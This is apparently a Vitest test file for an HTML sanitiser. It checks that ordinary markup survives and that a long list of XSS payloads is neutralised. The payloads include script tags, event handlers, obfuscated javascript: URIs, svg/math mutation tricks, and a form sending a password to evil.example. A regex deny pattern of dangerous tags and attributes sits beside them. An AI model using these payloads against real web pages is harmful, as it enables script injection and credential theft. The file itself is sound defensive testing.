import { describe, expect, test } from "vitest";
import { cleanHtml } from "./clean-html.server.ts";

describe("what people write", () => {
  test.each([
    ["<p>Rice &amp; <strong>beans</strong></p>", "<p>Rice &amp; <strong>beans</strong></p>"],
    ["<h1>Title</h1><h2>Part</h2>", "<h2>Title</h2><h2>Part</h2>"],
    ["<ul><li>one</li></ul><ol><li>two</li></ol>", "<ul><li>one</li></ul><ol><li>two</li></ol>"],
    ["<u>line</u><s>gone</s>", "<u>line</u><s>gone</s>"],
    ['<a href="/product/rice">rice</a>', '<a href="/product/rice" target="_blank" rel="noopener noreferrer">rice</a>'],
    [
      '<a href="https://ncc.gov.ng" target="_self" rel="opener">ncc</a>',
      '<a href="https://ncc.gov.ng" target="_blank" rel="noopener noreferrer">ncc</a>',
    ],
    [
      '<a href="tel:+2347000000000">call</a>',
      '<a href="tel:+2347000000000" target="_blank" rel="noopener noreferrer">call</a>',
    ],
    ['<img src="/files/a.webp" alt="Sacks">', '<img src="/files/a.webp" alt="Sacks" loading="lazy" />'],
    ["5 < 6 and <made-up>kept</made-up>", "5 &lt; 6 and kept"],
  ])("%s stays as %s", (dirty, clean) => {
    expect(cleanHtml(dirty)).toBe(clean);
    expect(cleanHtml(clean), "cleaning twice").toBe(clean);
  });
});

describe("attacks", () => {
  const DANGEROUS =
    /<script|<style|<iframe|<object|<embed|<svg|<math|<form|<input|<meta|<link|<base|\son\w+\s*=|javascript:|vbscript:|data:|style=|srcset|srcdoc|formaction|class=|id=/i;
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="http://evil.example/track.gif">',
    '<img src="//evil.example/track.gif">',
    '<img src="https://ok.example/a.png" srcset="//evil.example/x 2x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/x" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))" class="fixed" id="content">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    '<p onmouseover\n=\n"alert(1)">x</p>',
    "<details open ontoggle=alert(1)>x</details><video src=x onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
  ])("%s does nothing", (attack) => {
    const clean = cleanHtml(`<p>before</p>${attack}<p>after</p>`);
    const markup = (clean.match(/<[^>]*>/g) ?? []).join("");
    expect(markup).not.toMatch(DANGEROUS);
    expect(markup).not.toContain("evil.example");
    expect(clean).toContain("before");
  });
});
